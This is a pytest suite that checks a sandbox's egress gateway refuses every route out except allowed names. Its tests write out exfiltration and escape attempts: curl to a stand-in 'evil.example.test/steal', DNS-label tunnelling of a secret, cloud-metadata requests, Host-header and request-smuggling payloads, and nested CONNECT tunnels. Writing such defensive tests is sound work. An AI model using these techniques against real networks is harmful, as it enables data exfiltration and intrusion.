"""No exit: what leaves a sandbox leaves by name through the gateway, or not at all (ATTACKS NET, NAME, TLS, ID)."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.fakes.origins import HttpsOrigin, LineOrigin
from tests.world import Cloister

pytestmark = pytest.mark.sandbox

NO_PROXY = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY;"
WAYS = pytest.mark.parametrize("way", ["", NO_PROXY], ids=["proxy", "transparent"])
CURL = "curl -sS --max-time 20"


def python(script: str) -> list[str]:
    return ["/usr/bin/python3", "-c", script]


@WAYS
def test_allowed_host_over_tls(reach: Cloister, origin: HttpsOrigin, way: str) -> None:
    done = reach.sh(f"{way} {CURL} https://origin.example.test/hello")
    assert (done.code, done.out) == (0, "origin saw GET /hello\n"), done
    assert origin.seen[-1].host == "origin.example.test"


@WAYS
def test_allowed_host_over_http(reach: Cloister, http_origin: HttpsOrigin, way: str) -> None:
    done = reach.sh(f"{way} {CURL} http://plain.example.test/hello?secret=1")
    assert (done.code, done.out) == (0, "origin saw GET /hello?secret=1\n"), done
    request = next(event for event in reach.events("request") if event["host"] == "plain.example.test")
    assert (request["method"], request["path"], request["status"]) == ("GET", "/hello", 200)


@WAYS
def test_large_download_and_upload_are_intact(reach: Cloister, origin: HttpsOrigin, way: str) -> None:
    script = f"""{way} set -e
    {CURL} https://origin.example.test/bytes/20000000 | sha256sum
    head -c 67108864 /dev/zero > big; {CURL} --data-binary @big https://origin.example.test/upload; rm big"""
    done = reach.sh(script)
    assert done.code == 0, done
    expected = subprocess.run(
        ["sha256sum"], input=b"x" * 20_000_000, capture_output=True, check=True
    ).stdout.decode()
    assert done.out == expected + "origin saw POST /upload\n"
    assert len(origin.seen[-1].body) == 67108864


@WAYS
def test_refused_https_gets_a_readable_page_under_the_sandbox_ca(
    reach: Cloister, origin: HttpsOrigin, way: str
) -> None:
    """Through the proxy, where the name is refused only after it was sent; transparently, DNS refuses the name."""
    before = origin.connections
    done = reach.sh(f"{way} {CURL} -i https://evil.example.test/steal")
    assert origin.connections == before
    if way:
        assert done.code == 6, done
    else:
        assert "evil.example.test" in done.out + done.err
        assert "cloister" in (done.out + done.err).lower()
    assert any(
        event["host"] == "evil.example.test" for event in [*reach.events("refuse"), *reach.events("dns")]
    )


def test_tcp_by_name_and_port(reach: Cloister, line_origin: LineOrigin) -> None:
    script = """
import socket
with socket.create_connection(("line.example.test", 2222), 10) as s, s.makefile("rw") as f:
    print(f.readline().strip()); f.write("abc\\n"); f.flush(); print(f.readline().strip())
"""
    done = reach.run(*python(script))
    assert (done.code, done.out) == (0, "hello from the line origin\ncba\n"), done


def test_the_sandbox_may_serve_a_named_port_itself(reach: Cloister) -> None:
    script = """
import socket
server = socket.create_server(("127.0.0.1", 2222))
client = socket.create_connection(("127.0.0.1", 2222), 5)
print(server.accept()[1][0])
"""
    assert reach.run(*python(script)).out == "127.0.0.1\n"


def test_pattern_with_a_port_is_bound_on_demand(reach: Cloister) -> None:
    done = reach.sh(f"{NO_PROXY} {CURL} -k https://a.wild.example.test:8443/hello")
    assert done.out == "origin saw GET /hello\n", done


@pytest.mark.parametrize(
    "target",
    ["1.1.1.1:22", "1.1.1.1:8443", "[2606:4700::1111]:8443", "169.254.169.254:8080", "10.0.0.1:5432"],
)
def test_other_ports_are_refused_at_once(reach: Cloister, target: str) -> None:
    """NET-2: ECONNREFUSED from the kernel, not a hang."""
    host, port = target.rsplit(":", 1)
    script = f"""
import socket, time
start = time.monotonic()
try:
    socket.create_connection(("{host.strip("[]")}", {port}), 10); print("connected")
except ConnectionRefusedError:
    print("refused", time.monotonic() - start < 1)
"""
    assert reach.run(*python(script)).out == "refused True\n"


@pytest.mark.parametrize(
    "address", ["93.184.215.14", "169.254.169.254", "[2606:2800:21f::1]", "127.0.0.1", "[fd00:ec2::254]"]
)
@pytest.mark.parametrize("scheme", ["http", "https"])
def test_address_literals_are_refused(reach: Cloister, scheme: str, address: str) -> None:
    """NET-1, NAME-3, NAME-4: the same policy by address; the reason is readable. `-k` so that the page can be read."""
    done = reach.sh(f"{NO_PROXY} {CURL} -k -i {scheme}://{address}/latest/meta-data")
    text = (done.out + done.err).lower()
    assert "200 ok" not in text
    assert "403" in text or done.code in (35, 52, 56), done
    assert reach.events("refuse"), "the refusal is in the audit log"


@pytest.mark.parametrize(
    ("options", "url"),
    [
        ("--resolve origin.example.test:443:93.184.215.14", "https://origin.example.test/"),  # TLS-3
        ("--connect-to origin.example.test:443:other.example.test:443", "https://origin.example.test/"),
        ("--connect-to ::origin.example.test:443", "https://evil.example.test/"),
        ("--connect-to ::origin.example.test:443", "https://127.0.0.1/"),  # no SNI
        ("--resolve evil.example.test:443:198.18.0.2", "https://evil.example.test/"),
    ],
)
def test_destination_confusion_over_tls(reach: Cloister, origin: HttpsOrigin, options: str, url: str) -> None:
    """ID-1, TLS-2, TLS-3: the name asked for, the name in the ClientHello and the address must be one."""
    before = len(origin.seen)
    done = reach.sh(f"{NO_PROXY} {CURL} -k -i {options} {url}")
    assert "origin saw" not in done.out
    assert len(origin.seen) == before


def test_two_hosts_on_one_plain_connection(reach: Cloister, http_origin: HttpsOrigin) -> None:
    """ID-2, ID-3, ID-4: a kept-alive connection is judged anew for each request."""
    script = r"""
import socket
def talk(*requests):
    out = b""
    with socket.create_connection(("plain.example.test", 80), 10) as s:
        s.settimeout(10)
        for last, request in enumerate(requests, 1 - len(requests)):
            try:
                s.sendall(request)
                while part := s.recv(65536):
                    out += part
                    if last < 0 and out.endswith(b"origin saw GET /one\n"):
                        break
            except ConnectionResetError:
                pass
    return out.count(b"origin saw"), b" 403 " in out or b" 400 " in out
good = b"GET /one HTTP/1.1\r\nHost: plain.example.test\r\n\r\n"
print(talk(good, b"GET /two HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"))
print(talk(b"GET http://evil.example.test/ HTTP/1.1\r\nHost: plain.example.test\r\n\r\n"))
print(talk(b"GET / HTTP/1.1\r\nHost: plain.example.test\r\nHost: evil.example.test\r\n\r\n"))
print(talk(b"GET / HTTP/1.1\nHost: plain.example.test\n\n"))
print(talk(b"POST / HTTP/1.1\r\nHost: plain.example.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"))
"""
    before = len(http_origin.seen)
    done = reach.run(*python(script))
    assert done.out.splitlines() == ["(1, True)", *["(0, True)"] * 4], done
    assert [seen.path for seen in http_origin.seen[before:]] == ["/one"]


def test_datagrams_and_raw_sockets_go_nowhere(reach: Cloister) -> None:
    """NET-3: UDP, ICMP, raw, packet, SCTP, vsock."""
    script = """
import socket
def attempt(name, *kind, to=("93.184.215.14", 443)):
    try:
        s = socket.socket(*kind); s.settimeout(2); s.connect(to); s.send(b"x"); s.recv(10); print(name, "ANSWERED")
    except OSError as error:
        print(name, type(error).__name__)
attempt("quic", socket.AF_INET, socket.SOCK_DGRAM)
attempt("icmp", socket.AF_INET, socket.SOCK_RAW, 1)
attempt("raw", socket.AF_INET, socket.SOCK_RAW, 255)
attempt("packet", socket.AF_PACKET, socket.SOCK_RAW, 768, to=("lo", 0))
attempt("sctp", socket.AF_INET, socket.SOCK_STREAM, 132)
attempt("vsock", socket.AF_VSOCK, socket.SOCK_STREAM, 0, to=(2, 1))
"""
    done = reach.run(*python(script))
    assert done.code == 0, done
    assert "ANSWERED" not in done.out
    assert len(done.out.splitlines()) == 6


def test_dns_is_no_tunnel(reach: Cloister) -> None:
    """NET-4: any resolver address is the gateway; refused names have no answer; labels carry nothing out."""
    script = """
import socket, struct, sys
def ask(name, server, kind=1):
    q = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack(">HH", kind, 1)
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, (server, 53))
    data, source = s.recvfrom(4096)
    return data[3] & 15, struct.unpack(">H", data[6:8])[0], source[0] == server
for server in ("8.8.8.8", "127.0.0.1", "2001:4860:4860::8888"):
    print(ask("origin.example.test", server), ask("c2VjcmV0.evil.example.test", server), ask("origin.example.test", server, 16))
"""
    done = reach.run(*python(script))
    assert done.code == 0, done
    assert done.out.splitlines() == ["(0, 1, True) (3, 0, True) (0, 0, True)"] * 3


def test_the_network_cannot_be_changed_from_inside(reach: Cloister) -> None:
    """NET-6: routes, links, addresses, netfilter."""
    script = """
    ip link show | grep -c '^[0-9]'
    for c in "ip link add d0 type dummy" "ip addr add 10.9.9.9/32 dev lo" "ip route del local default table local" "ip link set lo down" "ip netns add x"; do
        $c 2>/dev/null && echo "DONE $c"
    done; true"""
    done = reach.sh(script)
    assert (done.code, done.out) == (0, "1\n"), done


def test_host_loopback_and_gateway_sockets_are_out_of_reach(reach: Cloister, origin: HttpsOrigin) -> None:
    """NET-7: the host's 127.0.0.1 is not the sandbox's; there is no abstract or path socket of ours to talk to."""
    before = origin.connections
    script = f"""
import socket, os
try:
    socket.create_connection(("127.0.0.1", {origin.port}), 5); print("connected")
except ConnectionRefusedError:
    print("refused")
print([line for line in open("/proc/net/unix").read().splitlines()[1:] if "@" in line])
print(sorted(os.listdir("/run")))
"""
    done = reach.run(*python(script))
    lines = done.out.splitlines()
    assert lines[:2] == ["refused", "[]"], done
    assert "'cloister'" in lines[2]
    assert origin.connections == before


def test_nested_connect_is_refused(reach: Cloister, origin: HttpsOrigin) -> None:
    """TLS-4: the sandbox's own relay chaining CONNECT; TLS-1: something that is not TLS inside CONNECT:443."""
    script = r"""
import socket
def tunnel(payload):
    s = socket.create_connection(("127.0.0.1", 3128), 10); s.settimeout(10)
    s.sendall(b"CONNECT origin.example.test:443 HTTP/1.1\r\nHost: origin.example.test:443\r\n\r\n")
    assert b" 200 " in s.recv(4096)
    s.sendall(payload)
    try:
        return s.recv(4096)
    except ConnectionResetError:
        return b""
for payload in (b"CONNECT evil.example.test:443 HTTP/1.1\r\nHost: evil.example.test:443\r\n\r\n", b"SSH-2.0-x\r\n", b"\x16\x03\x01\x00\x02\xff\xff"):
    answer = tunnel(payload)
    print(answer == b"" or b" 403 " in answer or b" 400 " in answer or answer[:1] == b"\x15")
"""
    before = origin.connections
    done = reach.run(*python(script))
    assert (done.code, done.out) == (0, "True\n" * 3), done
    assert origin.connections == before


@pytest.mark.parametrize("profile", ["offline"])
def test_an_empty_policy_denies_everything(cloister: Cloister, profile: str) -> None:
    cloister.configure(f'[sandbox]\nprofile = "{profile}"\n')
    done = cloister.sh(f"{NO_PROXY} {CURL} https://pypi.org/")
    assert done.code == 6, done
    done = cloister.sh(f"{CURL} https://pypi.org/")
    assert "cloister" in (done.out + done.err).lower()


@WAYS
@pytest.mark.parametrize(
    "address", ["127.0.0.1", "10.1.2.3", "169.254.169.254", "::ffff:127.0.0.1", "::1", "fd00:ec2::254"]
)
def test_an_allowed_name_with_a_private_address_is_refused(
    reach: Cloister, http_origin: HttpsOrigin, address: str, way: str
) -> None:
    """NAME-5. The host's resolver is given the answer by an /etc/hosts of its own; the control is a pinned name."""
    if os.geteuid() != 0:
        pytest.skip("an /etc/hosts for one process needs root")
    Path("/etc/hosts").touch()  # a mount needs a place; every installed system has one
    hosts = reach.write(reach.base / "hosts", f"{address} rebind.example.test\n127.0.0.1 localhost\n")
    config = (reach.home / ".config/cloister/config.toml").read_text()
    reach.configure(config.replace('allow = ["', 'allow = ["rebind.example.test", "'))
    reach.prefix = ["unshare", "--mount", "sh", "-c", 'mount --bind "$0" /etc/hosts && exec "$@"', str(hosts)]
    before = http_origin.connections
    done = reach.sh(f"{way} {CURL} http://rebind.example.test:80/; {CURL} http://plain.example.test/control")
    assert "origin saw GET /control" in done.out, done
    assert http_origin.connections == before + 1
    reasons = [str(e.get("reason")) for e in reach.events() if e.get("host") == "rebind.example.test"]
    assert any("address" in reason for reason in reasons), reach.events()


def test_git_clone_over_https(reach: Cloister, tmp_path: Path, authority: object) -> None:
    """The main job on real input: `git http-backend` behind a TLS origin, under a pinned name."""
    from tests.fakes.git_origin import GitOrigin

    if shutil.which("git") is None:
        pytest.fail("git is missing: tools/setup.sh installs it")
    with GitOrigin(authority) as git:  # type: ignore[arg-type]  # the session's Authority
        config = (reach.home / ".config/cloister/config.toml").read_text()
        config = config.replace('allow = ["', 'allow = ["git.example.test", "')
        config = config.replace(
            "[network.hosts]", f'[network.hosts]\n"git.example.test" = "127.0.0.1:{git.port}"'
        )
        reach.configure(config)
        for way, copy in (("", "one"), (NO_PROXY, "two")):
            done = reach.sh(
                f"{way} git clone -q https://git.example.test/widget.git {copy} && cat {copy}/README"
            )
            assert (done.code, done.out) == (0, "a widget\n"), done
